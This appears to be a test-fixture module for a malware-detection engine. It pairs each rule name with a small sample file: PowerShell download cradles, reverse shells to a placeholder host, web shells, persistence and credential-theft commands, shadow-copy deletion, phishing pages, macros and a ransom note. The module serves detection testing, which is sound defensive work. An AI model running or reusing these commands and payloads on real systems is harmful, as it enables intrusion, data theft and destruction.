"""Inert texts and bytes with the marks that our rules look for: addresses that lead nowhere, no working code."""

import pickle
from typing import Final

from tests.samples.files import elf, jpeg, ole, pdf, pe, shortcut

_X86 = bytes.fromhex("fce8820000006089e5")
_X64 = bytes.fromhex("fc4883e4f0e8c00000004151")
_NO = "http://host.invalid"


class _Call:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("echo never run",)


def _text(*lines: str) -> bytes:
    return "\r\n".join((*lines, "")).encode()


def _encoded(command: str) -> str:
    import base64

    return base64.b64encode(command.encode("utf-16-le")).decode()


def _program(*strings: str, wide: bool = False) -> bytes:
    return pe() + b"\0".join(one.encode("utf-16-le" if wide else "utf-8") for one in ("", *strings, ""))


def _class(hexadecimal: str) -> bytes:
    return ole("Contents", root_class=bytes.fromhex(hexadecimal))


def _masked_program() -> bytes:
    return bytes(128) + bytes(byte ^ 0x5A for byte in b"....This program cannot be run in DOS mode....") + bytes(range(256)) * 4


# name of the rule: (name of the file, its bytes)
SAMPLES: Final[dict[str, tuple[str, bytes]]] = {
    # --- powershell
    "powershell_fetches_and_runs": ("a.ps1", _text(f"(New-Object Net.WebClient).DownloadString('{_NO}/a') | iex")),
    "powershell_hidden_and_encoded": ("a.bat", _text("@echo off", f"powershell -w hidden -enc {'QQBB' * 20}")),
    "powershell_hidden_download": ("a.bat", _text(f"powershell -ep bypass -w hidden -c iwr {_NO}/a -OutFile b")),
    "powershell_encoded_words": ("a.cmd", _text(f"powershell -e {_encoded('(New-Object Net.WebClient).DownloadString(1)')}")),
    "powershell_blinds_script_scanner": (
        "a.ps1",
        _text("[Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed','y').SetValue($null,1)"),
    ),
    "powershell_blinds_event_log": ("a.ps1", _text("$a = 'EtwEventWrite'", "VirtualProtect $a")),
    "powershell_loads_program_from_text": ("a.ps1", _text("[Reflection.Assembly]::Load([Convert]::FromBase64String($x))")),
    "powershell_runs_machine_code": (
        "a.ps1",
        _text("$p = VirtualAlloc 0", "[Runtime.InteropServices.Marshal]::Copy($c, 0, $p, 1)", "CreateThread $p"),
    ),
    "powershell_answers_to_remote": (
        "a.ps1",
        _text("$c = New-Object Net.Sockets.TCPClient('host.invalid', 1)", "$s = $c.GetStream()", "while ($true) { iex $d }"),
    ),
    "powershell_reads_keys": ("a.ps1", _text("Add-Type $signature", "[x]::GetAsyncKeyState(1)", "$k | Out-File keys.txt")),
    "powershell_sends_screen": ("a.ps1", _text("$g.CopyFromScreen(0, 0)", f"$w.UploadFile('{_NO}', 'a.png')")),
    "powershell_switches_defender_off": ("a.ps1", _text("Set-MpPreference -DisableRealtimeMonitoring $true")),
    "collects_wireless_passwords": ("a.bat", _text("netsh wlan show profile name=x key=clear > %~d0\\a.txt")),
    "sends_to_chat_service": (
        "a.ps1",
        _text("Invoke-RestMethod -Uri https://discord.com/api/webhooks/1/none -Body $env:COMPUTERNAME"),
    ),
    "starts_with_windows_unseen": (
        "a.bat",
        _text(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d " "mshta x" ""),
    ),
    "schedules_unseen_interpreter": ("a.bat", _text('schtasks /create /tn a /sc minute /tr "powershell -w hidden -f a.ps1"')),
    "lasting_wmi_subscription": ("a.ps1", _text("__EventFilter", "CommandLineEventConsumer", "__FilterToConsumerBinding")),
    "dumps_logon_secrets": ("a.bat", _text(r"reg save hklm\sam a.hiv")),
    "reads_browser_passwords": (
        "a.ps1",
        _text(r"$p = '\Google\Chrome\User Data\Default\Login Data'", "[Security.Cryptography.ProtectedData]::Unprotect($b)"),
    ),
    "gains_rights_without_asking": ("a.bat", _text(r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /d x", "fodhelper.exe")),
    "hidden_commands_in_picture": ("a.ps1", _text("$b = New-Object System.Drawing.Bitmap a.png", "$b.GetPixel(0, 0)", "iex $t")),
    "commands_from_name_service": ("a.ps1", _text("iex (Resolve-DnsName -Type TXT host.invalid).Strings")),
    "looks_for_its_own_stick": (
        "a.ps1",
        _text("$d = Get-Volume -FileSystemLabel GIFT", 'powershell -w hidden -ep bypass -f "$d\\a.ps1"'),
    ),
    # --- scripts that Windows runs
    "script_fetches_saves_and_starts": (
        "a.vbs",
        _text('Set x = CreateObject("MSXML2.XMLHTTP")', 'Set s = CreateObject("ADODB.Stream")', "s.SaveToFile p", "w.Run p"),
    ),
    "script_starts_interpreter_unseen": ("a.vbs", _text('CreateObject("WScript.Shell").Run "powershell -c x", 0, False')),
    "script_spreads_to_drives": (
        "a.vbs",
        _text("For Each d In fso.Drives", "If d.IsReady Then fso.CopyFile WScript.ScriptFullName, d", "Next"),
    ),
    "script_hides_files_behind_shortcuts": (
        "a.vbs",
        _text("For Each f In folder.Files", "f.Attributes = 2", 'Set l = sh.CreateShortcut(f.Name & ".lnk")', "Next"),
    ),
    "script_settles_in_startup": ("a.vbs", _text('fso.CopyFile WScript.ScriptFullName, sh.SpecialFolders("Startup")')),
    "script_starts_process_through_wmi": (
        "a.vbs",
        _text('Set w = GetObject("winmgmts:root")', "c.ShowWindow = HIDDEN_WINDOW : c.ShowWindow = 0", 'w.Get("Win32_Process").Create(a)'),
    ),
    "script_unpacks_program": (
        "a.vbs",
        _text('Set e = CreateObject("MSXML2.DOMDocument").createElement("a")', 'e.DataType = "bin.base64"', "s.SaveToFile p", "w.Run p"),
    ),
    "scriptlet_that_starts_programs": (
        "a.sct",
        _text(
            "<scriptlet>", '<registration progid="a">', "<script>new ActiveXObject('WScript.Shell')</script>", "</registration></scriptlet>"
        ),
    ),
    "html_application_unseen": (
        "a.hta",
        _text("<html><head><hta:application showintaskbar=no>", "<script>new ActiveXObject('WScript.Shell')</script></head></html>"),
    ),
    "stylesheet_that_starts_programs": (
        "a.xsl",
        _text(
            "<?xml version='1.0'?>",
            "<stylesheet xmlns:ms='urn:x'>",
            "<ms:script>new ActiveXObject('WScript.Shell')</ms:script></stylesheet>",
        ),
    ),
    "script_revives_dotnet_objects": (
        "a.js",
        _text("var f = new ActiveXObject('System.Runtime.Serialization.Formatters.Binary.BinaryFormatter');", "f.Deserialize_2(m);"),
    ),
    "script_writes_another_script": (
        "a.bat",
        _text('echo Set x=CreateObject("MSXML2.XMLHTTP") > %TEMP%\\a.vbs', "wscript %TEMP%\\a.vbs"),
    ),
    "script_blinds_scanner_by_registry": (
        "a.js",
        _text(r"new ActiveXObject('WScript.Shell').RegWrite('HKCU\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable', 0)").replace(
            b"\\\\", b"\\"
        ),
    ),
    # --- command lines
    "mshta_runs_remote_page": ("a.bat", _text(f"mshta {_NO}/a.hta")),
    "regsvr32_runs_remote_script": ("a.bat", _text(f"regsvr32 /s /n /u /i:{_NO}/a.sct scrobj.dll")),
    "rundll32_runs_script_or_disguised_library": ("a.bat", _text("rundll32 holiday.jpg,Start")),
    "certutil_fetches": ("a.bat", _text(f"certutil -urlcache -split -f {_NO}/a.exe b.exe")),
    "certutil_decodes_program": ("a.bat", _text("certutil -decode a.txt b.exe")),
    "bitsadmin_fetches_program": ("a.bat", _text(f"bitsadmin /transfer a {_NO}/a.exe c:\\a.exe")),
    "batch_fetches_and_starts": ("a.bat", _text(f"curl {_NO}/a -o %TEMP%\\a.exe".replace("/a -o", "/a.bin -o"), "start %TEMP%\\a.exe")),
    "wmic_runs_remote_stylesheet": ("a.bat", _text(f'wmic os get /format:"{_NO}/a.xsl"')),
    "signed_program_runs_foreign_code": ("a.bat", _text("conhost --headless x")),
    "build_file_with_machine_code": (
        "a.csproj",
        _text(
            "<Project>",
            '<UsingTask TaskName="a" TaskFactory="CodeTaskFactory"><Task>',
            "<Code>[DllImport] VirtualAlloc</Code></Task></UsingTask></Project>",
        ),
    ),
    "destroys_backups": ("a.bat", _text("vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no")),
    "wipes_traces": ("a.bat", _text("wevtutil cl Security", "wevtutil cl System")),
    "adds_hidden_administrator": ("a.bat", _text("net user guest2 x /add", "net localgroup administrators guest2 /add")),
    "opens_remote_desktop": ("a.bat", _text("reg add x /v fDenyTSConnections /d 0", "net user guest2 x /add")),
    "lowers_firewall": ("a.bat", _text("netsh advfirewall set allprofiles state off")),
    "batch_spreads_to_drives": ("a.bat", _text("for %%d in (d: e: f:) do copy %0 %%d\\", "attrib +h +s x.bat")),
    "batch_settles_in_startup": (
        "a.bat",
        _text(r'copy "%~f0" "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"'),
    ),
    "replaces_logon_helper": ("a.bat", _text(r"copy c:\windows\system32\cmd.exe c:\windows\system32\sethc.exe")),
    "destroys_files": ("a.bat", _text(r"rd /s /q c:\ ")),
    "endless_copies": ("a.bat", _text("@echo off", "%0|%0")),
    "collects_documents": ("a.bat", _text(r"xcopy %USERPROFILE%\Documents\*.docx %~d0\x /s /q")),
    # --- Unix
    "shell_opens_itself_to_remote": ("a.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/host.invalid/1 0>&1\n"),
    "interpreter_opens_itself_to_remote": (
        "a.py",
        b"s = socket.socket()\ns.connect(('host.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    "shell_runs_download_from_bare_address": ("a.sh", b"#!/bin/sh\ncurl http://192.0.2.1/a | sh\n"),
    "shell_drops_into_temporary_folder": (
        "a.sh",
        b"#!/bin/sh\ncurl -s http://host.invalid/a -o /tmp/.a\nchmod +x /tmp/.a\nnohup /tmp/.a >/dev/null 2>&1 &\n",
    ),
    "shell_plans_download": ("a.sh", b'#!/bin/sh\necho "* * * * * curl http://host.invalid/a | sh" | crontab -\n'),
    "shell_slips_library_into_every_program": ("a.sh", b"#!/bin/sh\necho /tmp/a.so > /etc/ld.so.preload\n"),
    "shell_adds_own_key": ("a.sh", b'#!/bin/sh\necho "ssh-ed25519 AAAA' + b"B" * 40 + b'" >> ~/.ssh/authorized_keys\n'),
    "shell_gives_rights_to_all": ("a.sh", b'#!/bin/sh\necho "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n'),
    "shell_carries_program_as_text": ("a.sh", b"#!/bin/sh\nprintf '\\x7f\\x45\\x4c\\x46' > a\nchmod +x a\n"),
    "script_runs_program_without_file": (
        "a.py",
        b"fd = os.memfd_create('a')\nos.write(fd, urlopen('http://host.invalid').read())\nos.execv(f'/proc/self/fd/{fd}', ['a'])\n",
    ),
    "shell_mines_coins": ("a.sh", b"#!/bin/sh\nnohup ./xmrig -o stratum+tcp://host.invalid:3333 &\n"),
    "shell_ends_protection": ("a.sh", b"#!/bin/sh\nunset HISTFILE\nsetenforce 0\ncurl http://host.invalid/a\n"),
    "shell_wipes_disk": ("a.sh", b"#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n"),
    "mac_asks_for_password_itself": (
        "a.command",
        b'#!/bin/sh\nosascript -e \'display dialog "Your password is needed" default answer "" with hidden answer\'\n',
    ),
    "mac_takes_warning_off": ("a.command", b"#!/bin/sh\ncurl -o /tmp/a http://host.invalid/a\nxattr -c /tmp/a\nchmod +x /tmp/a\n"),
    "mac_starts_download_at_login": (
        "a.plist",
        b"<?xml version='1.0'?><plist><dict><key>ProgramArguments</key><array><string>sh</string><string>curl http://host.invalid | sh</string>"
        b"</array><key>RunAtLoad</key><true/></dict></plist>",
    ),
    "mac_collects_keys": ("a.sh", b"#!/bin/sh\ncp ~/Library/Keychains/login.keychain-db a\ncurl -F f=@a http://host.invalid\n"),
    "service_from_temporary_folder": ("a.service", b"[Service]\nExecStart=/tmp/.a\n"),
    # --- source code
    "python_runs_download": ("a.py", b"exec(urlopen('http://host.invalid/a').read())\n"),
    "python_reads_keys": ("a.py", b"from pynput import keyboard\ndef on_press(k): pass\nrequests.post('http://host.invalid')\n"),
    "code_steals_browser_data": ("a.py", b"p = 'Login Data'\nwin32crypt.CryptUnprotectData(x)\nrequests.post('http://host.invalid')\n"),
    "python_runs_machine_code": (
        "a.py",
        b"import ctypes\np = k.VirtualAlloc(0, 1)\nk.RtlMoveMemory(p, c, 1)\nk.CreateThread(0, 0, p)\n",
    ),
    "package_runs_hidden_code_at_install": (
        "setup.py",
        b"class Now(install):\n    def run(self):\n        exec(b64decode('eA=='))\nsetup(name='a', cmdclass={'install': Now})\n",
    ),
    "editor_runs_at_opening": (
        "tasks.json",
        b'{"tasks": [{"command": "curl http://host.invalid", "runOptions": {"runOn": "folderOpen"}}]}',
    ),
    "repository_runs_at_looking": ("config", b'[core]\n\tbare = false\n\tfsmonitor = "sh -c ./a"\n'),
    "javascript_of_brackets": ("a.js", b"[][(![]+[])[+[]]+" + b"(![]+[])[+!+[]]+" * 40 + b"[]"),
    "node_starts_download": (
        "a.js",
        b"const c = require('child_process');\nexec('curl http://host.invalid/a | sh');\nexecSync('certutil -urlcache x');\n",
    ),
    "carries_encoded_windows_program": ("a.ps1", b"$a = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'\n"),
    "carries_encoded_machine_code": ("a.ps1", b"$a = 0xfc,0xe8,0x82,0x00,0x00,0x00,0x60,0x89,0xe5\n"),
    # --- web
    "php_runs_what_is_asked": ("a.php", b"<?php eval($_POST['a']); ?>"),
    "php_runs_packed_text": ("a.php", b"<?php eval(gzinflate(base64_decode('" + b"QUFB" * 30 + b"'))); ?>"),
    "php_manages_foreign_files": (
        "a.php",
        b"<?php move_uploaded_file($a, $b); echo php_uname(); $c = $_GET['cmd']; shell_exec($c); ?>",
    ),
    "asp_runs_what_is_asked": ("a.asp", b'<%@ language="VBScript" %><% execute request("a") %>'),
    "jsp_runs_what_is_asked": ("a.jsp", b'<%@ page %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    "words_of_picture_run_on_server": (
        "a.jpg",
        jpeg(b"\xff\xfe\x00\x1f<?php system($_GET['a']); ?>x"),
    ),
    "page_makes_people_run_commands": (
        "a.html",
        _text(
            "<html><body>Verification: press Win + R, then Ctrl + V",
            "<script>navigator.clipboard.writeText('mshta http://host.invalid')</script></body></html>",
        ),
    ),
    "page_sends_password_to_chat": (
        "a.html",
        _text(
            "<html><body><form><input type=password></form>",
            "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script></body></html>",
        ),
    ),
    "page_is_saved_login": (
        "a.html",
        _text(
            "<html><head><title>Sign in to Outlook</title></head><body>",
            "<form action='https://host.invalid/a'><input type='password'></form></body></html>",
        ),
    ),
    "page_opens_remote_search": (
        "a.html",
        _text(r"<html><script>location='search-ms:query=a&crumb=location:\\host.invalid\a'</script></html>"),
    ),
    "page_calls_troubleshooter": (
        "a.html",
        _text("<html><script>location='ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x'</script></html>"),
    ),
    "page_fetches_from_file_server": ("a.html", _text(r"<html><img src='file://192.0.2.1/a.png'></html>")),
    "page_starts_programs": (
        "a.html",
        _text("<html><script>var s = new ActiveXObject('WScript.Shell'); s.Run('x');</script></html>"),
    ),
    "help_page_starts_command": (
        "a.html",
        _text(
            "<html><object id=x classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'>",
            "<param name='Item1' value=',cmd.exe,/c x'></object><script>x.Click();</script></html>",
        ),
    ),
    "task_for_unseen_interpreter": (
        "a.xml",
        _text(
            "<?xml version='1.0'?>",
            "<Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'>",
            "<Command>powershell</Command><Arguments>-w hidden</Arguments></Task>",
        ),
    ),
    "sandbox_file_runs_command": (
        "a.wsb",
        _text("<Configuration>", "<MappedFolder></MappedFolder>", "<LogonCommand><Command>x</Command></LogonCommand></Configuration>"),
    ),
    "settings_page_runs_command": (
        "a.settingcontent-ms",
        _text("<?xml version='1.0'?>", "<PCSettings><DeepLink>cmd.exe /c x</DeepLink></PCSettings>"),
    ),
    "library_shows_remote_folder": (
        "a.library-ms",
        _text("<?xml version='1.0'?>", r"<libraryDescription><url>\\host.invalid\a</url></libraryDescription>"),
    ),
    "web_start_with_all_rights": (
        "a.jnlp",
        _text("<?xml version='1.0'?>", "<jnlp codebase='http://host.invalid'>", "<security><all-permissions/></security></jnlp>"),
    ),
    "office_relation_with_script": (
        "document.xml.rels",
        _text("<?xml version='1.0'?>", '<Relationship Target="mhtml:http://host.invalid/a.html!x" TargetMode="External"/>'),
    ),
    # --- programs (headers only)
    "program_packed_upx": ("a.exe", _program("UPX!", "$Info: This file is packed with the UPX executable packer")),
    "program_packed_against_reading": ("a.exe", pe(sections=(b".vmp0", b".vmp1"))),
    "program_made_from_python": ("a.exe", pe() + bytes.fromhex("4d45490c0b0a0b0e")),
    "program_made_from_script": ("a.exe", _program("AU3!EA06")),
    "archive_that_starts_unseen": ("a.exe", _program("x\r\nPath=%TEMP%\r\nSetup=a.exe\r\nSilent=1\r\n")),
    "program_for_ransom": (
        "a.exe",
        _program("vssadmin delete shadows /all", "All your files have been encrypted", "send bitcoin"),
    ),
    "program_dumps_logon_secrets": ("a.exe", _program("sekurlsa::x", "privilege::debug", wide=True)),
    "program_records_keys": (
        "a.exe",
        _program("GetAsyncKeyState", "GetForegroundWindow", "[ENTER]", "[BACKSPACE]", "[CAPSLOCK]", "[TAB]"),
    ),
    "program_collects_secrets": (
        "a.exe",
        _program(
            r"\Google\Chrome\User Data",
            r"\Mozilla\Firefox\Profiles",
            "wallet.dat",
            "exodus.wallet",
            r"\Electrum\wallets",
            r"Telegram Desktop\tdata",
        ),
    ),
    "program_sends_to_chat_service": ("a.exe", _program("https://api.telegram.org/bot", "GetAsyncKeyState", "CopyFromScreen")),
    "library_loads_itself": ("a.dll", _program("ReflectiveLoader")),
    "program_takes_over_another": (
        "a.exe",
        _program("NtUnmapViewOfSection", "VirtualAllocEx", "WriteProcessMemory", "SetThreadContext", "ResumeThread", "CreateProcessA"),
    ),
    "program_spreads_by_sticks": (
        "a.exe",
        _program("autorun.inf", "[autorun]", "open=a.exe", "GetDriveTypeA", "CopyFileA", "SetFileAttributesA"),
    ),
    "program_gains_rights_without_asking": (
        "a.exe",
        _program("Elevation:Administrator!new:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}", wide=True),
    ),
    "program_blinds_protection": ("a.exe", _program("AmsiScanBuffer", "amsi.dll", "EtwEventWrite", "VirtualProtect")),
    "program_starts_powershell_unseen": ("a.exe", _program("powershell -w hidden -enc AAAA")),
    "program_hides_in_linux": (
        "a.so",
        elf() + b"\0readdir64\0dlsym\0/etc/ld.so.preload\0/proc/net/tcp\0/bin/sh\0",
    ),
    "program_mines_coins": ("a", elf() + b"\0stratum+tcp://\0donate-level\0"),
    "program_takes_over_small_devices": ("a", elf() + b"\0/bin/busybox ABCDE\0wget http://host.invalid/a; chmod 777 a\0"),
    "program_asks_for_mac_password": (
        "a",
        bytes.fromhex("cffaedfe0700000103000000020000000000000000000000")
        + b"\0" * 100
        + b'display dialog "x" with hidden answer\0dscl . authonly\0',
    ),
    # --- bytes that lie elsewhere
    "injected_machine_code": ("a.bin", b"\x01\x02\x03\x00\xff\xfe\x80" * 40 + _X86 + b"\x00\x90\xff" + _X64 + b"\x01\x00\xff" * 40),
    "masked_windows_program": ("a.dat", _masked_program()),
    "pickle_starts_commands": ("a.pkl", pickle.dumps(_Call(), protocol=4)),
    # --- documents
    "document_with_old_equation": ("a.doc", _class("02ce020000000000c000000000000046")),
    "rich_text_equation_that_loads_itself": ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objclass Equation.3}{\*\objdata 00}}}"),
    "rich_text_link_that_loads_itself": ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 4f4c45324c696e6b}}}"),
    "rich_text_with_bent_beginning": ("a.rtf", rb"{\rtx{\object{\*\objdata 00}}}"),
    "document_fetches_object_by_address": (
        "a.doc",
        ole("\1Ole") + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://host.invalid".encode("utf-16-le") + b"OLE2Link",
    ),
    "document_holds_browser_or_script_object": ("a.doc", _class("c32ab2eac130cf11a7eb0000c05bae0b")),
    "document_with_flash": ("a.ppt", _class("6edb7cd26daecf1196b8444553540000")),
    "pdf_breaks_reader": ("a.pdf", pdf() + b"util.printf('%45000f', 1)"),
    "pdf_gives_logon_away": ("a.pdf", pdf().replace(b"/Type/Page/", rb"/Type/Page/AA<</O<</S/GoToE/F(\\\\192.0.2.1\\a)>>>>/")),
    "notebook_with_script": (
        "a.one",
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + b"\0" * 1024
        + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
        + b"\0" * 20
        + b"<hta:application><script>WScript.Shell</script>",
    ),
    # --- shortcuts
    "shortcut_carries_file_in_itself": (
        "a.lnk",
        shortcut(r"C:\Windows\System32\cmd.exe", "/c findstr /b x report.lnk > a.vbs"),
    ),
    "shortcut_with_foreign_content": ("a.lnk", shortcut(r"C:\Windows\explorer.exe") + b"\0\0\0\0<script>x</script>"),
    "shortcut_dressed_as_document": (
        "a.lnk",
        shortcut(r"C:\Windows\System32\cmd.exe", "/c start https://host.invalid", icon=r"C:\Program Files\winword.exe"),
    ),
    "shortcut_spells_its_command": ("a.lnk", shortcut(r"C:\Windows\System32\cmd.exe", "/c p^o^w^e^r^s^h^e^l^l x")),
    # --- settings
    "registry_starts_interpreter_with_windows": (
        "a.reg",
        _text(
            "Windows Registry Editor Version 5.00",
            "",
            r"[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]",
            '"a"="mshta x"',
        ),
    ),
    "registry_replaces_program": (
        "a.reg",
        _text(
            "REGEDIT4",
            "",
            r"[HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]",
            '"Debugger"="cmd"',
        ),
    ),
    "registry_switches_protection_off": ("a.reg", _text("REGEDIT4", "", r"[HKLM\x]", '"DisableAntiSpyware"=dword:00000001')),
    "registry_locks_person_out": ("a.reg", _text("REGEDIT4", "", r"[HKCU\x]", '"DisableTaskMgr"=dword:00000001')),
    "setup_information_runs_script": (
        "a.inf",
        _text("[Version]", "Signature=x", "[DefaultInstall]", "UnRegisterOCXs=a", "[a]", f"%11%\\scrobj.dll,NI,{_NO}/a.sct"),
    ),
    "remote_desktop_opens_own_drives": (
        "a.rdp",
        _text("full address:s:host.invalid", "drivestoredirect:s:*", "redirectclipboard:i:1"),
    ),
    "theme_fetches_from_file_server": ("a.theme", _text("[Theme]", "DisplayName=a", r"BrandImage=\\192.0.2.1\a.png")),
    "screen_saver_line_starts_program": ("a.theme", _text("[boot]", r"SCRNSAVE.EXE=.\holiday.scr")),
    "profile_sends_traffic_elsewhere": (
        "a.mobileconfig",
        b"<?xml version='1.0'?><plist><key>PayloadType</key><string>com.apple.security.root</string><string>com.apple.vpn.managed</string></plist>",
    ),
    # --- devices that type
    "keystroke_script": ("payload.txt", b"DELAY 1000\nGUI r\nDELAY 200\nSTRING notepad\nENTER\n"),
    "keystroke_device_mode": ("payload.txt", b"ATTACKMODE HID STORAGE\nWAIT\n"),
    "keystroke_firmware_source": (
        "a.ino",
        b'#include "Keyboard.h"\nvoid setup() {\n  Keyboard.press(KEY_LEFT_GUI);\n  Keyboard.print("cmd");\n}\n',
    ),
    "keystroke_script_in_javascript": ("a.js", b'layout("us")\npress("GUI r")\ntype("cmd /c x")\n'),
    "keystroke_data": ("inject.bin", b"\0\xff\0\xff\x15\x08\0\xc8\x11\0\x12\0\x17\0\x08\0\x13\0\x04\0\x07\0\x28\0"),
    # --- texts that work on people
    "table_starts_command": ("a.csv", b"name,sum\nx,=cmd|'/c x'!A0\n"),
    "symbolic_link_table_starts_command": ("a.slk", b'ID;P\nC;X1;Y1;EEXEC("x")\nE\n'),
    "query_fetches_from_web": ("a.iqy", b"WEB\n1\nhttp://host.invalid/a\n"),
    "ransom_note": (
        "README.txt",
        b"All your files have been encrypted.\nPay in bitcoin and write to x@onionmail.\nDo not rename files.\nYour personal id: 0\n",
    ),
}
MACROS: Final[dict[str, str]] = {
    "macro_starts_command": 'Shell "cmd /c x", 0',
    "macro_fetches_file": 'Declare Function f Lib "urlmon" Alias "URLDownloadToFileA" ()',
    "macro_runs_machine_code": "Private Declare PtrSafe Function VirtualAlloc Lib x ()\nDeclare PtrSafe Function RtlMoveMemory Lib x ()",
    "macro_writes_and_starts_program": 'p = Environ("TEMP") & "\\a.exe"\nOpen p For Binary As 1\nShell p',
    "macro_copies_itself": "NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s",
    "macro_lowers_protection": 'CreateObject("WScript.Shell").RegWrite "HKCU\\x\\Security\\VBAWarnings", 1',
    "macro_keeps_commands_in_document": 'Shell ActiveDocument.BuiltInDocumentProperties("Comments")',
    "macro_looks_whether_it_is_watched": 'If Application.RecentFiles.Count < 3 Then Exit Sub\nShell "x"',
    "macro_spells_its_words": "a = " + " & ".join("Chr(65)" for _ in range(24)),
    "macro_of_mac_starts_command": 'MacScript("do shell script ""x""")',
}
